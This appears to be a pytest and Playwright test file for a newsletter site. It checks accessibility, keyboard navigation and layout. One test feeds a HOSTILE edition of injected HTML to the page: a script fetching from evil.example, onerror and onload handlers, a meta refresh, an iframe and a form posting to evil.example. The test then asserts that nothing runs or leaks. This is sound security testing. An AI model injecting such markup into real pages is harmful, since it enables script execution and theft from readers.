"""A reader's browser without JavaScript, and an edition that would like to run some."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Literal

import httpx
import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Page
from sqlalchemy import select

from newsletter.models import LetterKind, Subscription
from newsletter.services import joining, owning
from newsletter.services.asking import Browser as AskingBrowser
from newsletter.services.joining import Wish
from tests.browser import OpenTab
from tests.web.conftest import Paper, served
from tests.web.test_joining import letters

# What is told here does not depend on the store
pytestmark = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)


@pytest.fixture
def page(open_tab: OpenTab, complaints: list[str]) -> Iterator[Page]:
    yield open_tab(viewport={"width": 390, "height": 800}, java_script_enabled=False)
    complaints[:] = [said for said in complaints if "404" not in said]


def test_a_reader_leaves_and_comes_back_by_hand(site: httpx.Client, paper: Paper, page: Page) -> None:
    link = paper.runtime.links.leave(paper.alice, paper.ids["post"])
    page.goto(link.replace("https://news.example.org", str(site.base_url)))
    page.get_by_role("button", name="Unsubscribe").click()
    assert page.get_by_role("heading").inner_text() == "You have left"
    assert states(paper)["post"] == "ended"
    page.get_by_role("button", name="Undo").click()
    assert page.get_by_role("heading").inner_text() == "Welcome back"
    assert states(paper)["post"] == "active"


def test_preferences_by_keyboard(site: httpx.Client, paper: Paper, page: Page) -> None:
    link = paper.runtime.links.preferences(paper.alice)
    page.goto(link.replace("https://news.example.org", str(site.base_url)))
    page.get_by_role("button", name="Leave Weekend").focus()
    page.keyboard.press("Enter")
    page.get_by_role("button", name="Get Weekend again").wait_for()
    assert states(paper) == {"post": "active", "weekend": "ended"}


PAGES = (
    "/",
    "/n/post",
    "/n/post?q=news",
    "/n/post?year=2026",
    "/nothing",
    "/unsubscribe/worn",
    "leave",
    "choose",
    "/embed/post",
    "/preferences",
    "/confirm/worn",
    "confirm",
    "own",
)


def test_past_editions_are_searched_by_keyboard(site: httpx.Client, paper: Paper, page: Page) -> None:
    paper.edition("2026-02-17", html="<p>Bridge opens</p>")
    page.goto(f"{site.base_url}/n/post")
    page.get_by_role("searchbox", name="Search past editions").focus()
    page.keyboard.type("bridge")
    page.keyboard.press("Enter")
    assert page.get_by_role("status").inner_text() == "1 edition was found."
    assert page.get_by_role("searchbox").input_value() == "bridge"
    page.get_by_role("link", name="News of 2026-02-17").press("Enter")
    assert page.url.endswith("/n/post/2026-02-17")


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("language", ["en", "uk"])
def test_axe_finds_nothing(
    paper: Paper, browser: Browser, language: str, scheme: Literal["light", "dark"]
) -> None:
    paper.edition("2025-02-17")
    paper.edition("2026-02-17")
    axe = Axe()
    with served(paper, language=language) as site, browser.new_context(color_scheme=scheme) as context:
        page = context.new_page()
        complaints: list[str] = []
        page.on("console", lambda message: complaints.append(message.text))
        for path in PAGES:
            page.goto(address(site, paper, path))
            found = axe.run(page)
            assert found.violations_count == 0, f"{path}: {found.generate_report()}"
            assert len(page.content().encode()) <= 30_000
            assert page.locator("html").get_attribute("lang") == language
        assert [said for said in complaints if "404" not in said] == []


@pytest.mark.parametrize("path", PAGES)
def test_every_page_fits_a_narrow_screen(site: httpx.Client, paper: Paper, page: Page, path: str) -> None:
    paper.edition("2026-02-17")
    page.set_viewport_size({"width": 320, "height": 700})
    page.goto(address(site, paper, path))
    assert page.evaluate("document.documentElement.scrollWidth") <= 320
    inputs = "input:not([type=hidden], [type=checkbox], [name=website])"
    for target in page.locator(f"button, {inputs}, .check, .rows a, .turn a, .way-on a").all():
        if target.is_visible():
            box = target.bounding_box()
            assert box and box["height"] >= 44, target


def test_a_hostile_edition_runs_nothing(site: httpx.Client, paper: Paper, browser: Browser) -> None:
    paper.edition("2026-02-17", html=HOSTILE)
    with browser.new_context() as context:
        context.add_cookies([{"name": "desk", "value": "secret", "url": str(site.base_url)}])
        page = context.new_page()
        asked: list[tuple[str, str]] = []
        context.route("**/*.example/**", lambda route: route.abort())
        page.on("request", lambda request: asked.append((request.resource_type, request.url)))
        page.goto(f"{site.base_url}/n/post/2026-02-17")
        page.locator("#seen").wait_for()
        page.get_by_role("button", name="Send").click()
        assert page.title() == "News"
        assert {kind for kind, _ in asked} <= {"document", "image"}
        assert not any("evil" in url for _, url in asked), asked
        assert page.evaluate("self.origin") == "null"


HOSTILE = (
    '<p id="seen">Bridge opens</p><base href="https://evil.example/">'
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
    "<script>document.title='ran'; fetch('https://evil.example/script')</script>"
    '<img src="data:," onerror="document.title=\'ran\'" alt="">'
    '<svg onload="document.title=\'ran\'"></svg><iframe src="https://evil.example/frame"></iframe>'
    '<img src="https://pictures.example/a.png" alt="">'
    '<form action="https://evil.example/form"><button>Send</button></form>'
)


def address(site: httpx.Client, paper: Paper, path: str) -> str:
    """Where this site has that page; `leave` and `choose` are Alice's own."""
    links = paper.runtime.links
    own = {"leave": links.leave(paper.alice, paper.ids["post"]), "choose": links.preferences(paper.alice)}
    if path == "confirm":
        wish = Wish("bob@readers.example", ["post", "weekend"], form=links.form())
        joining.sign_up(paper.runtime, wish, AskingBrowser(), paper.runtime.clock.now())
        own[path] = letters(paper)[-1].values["url"]
    if path == "own":
        owning.mail_link_to(paper.runtime, paper.alice, AskingBrowser(), paper.runtime.clock.now())
        own[path] = letters(paper, LetterKind.PREFERENCES)[-1].values["url"]
    return f"{site.base_url}{own.get(path, path).removeprefix('https://news.example.org')}"


def states(paper: Paper) -> dict[str, str]:
    with paper.runtime.database.reading() as session:
        rows = dict(session.execute(select(Subscription.newsletter_id, Subscription.state)).all())
    return {slug: rows[number] for slug, number in paper.ids.items()}
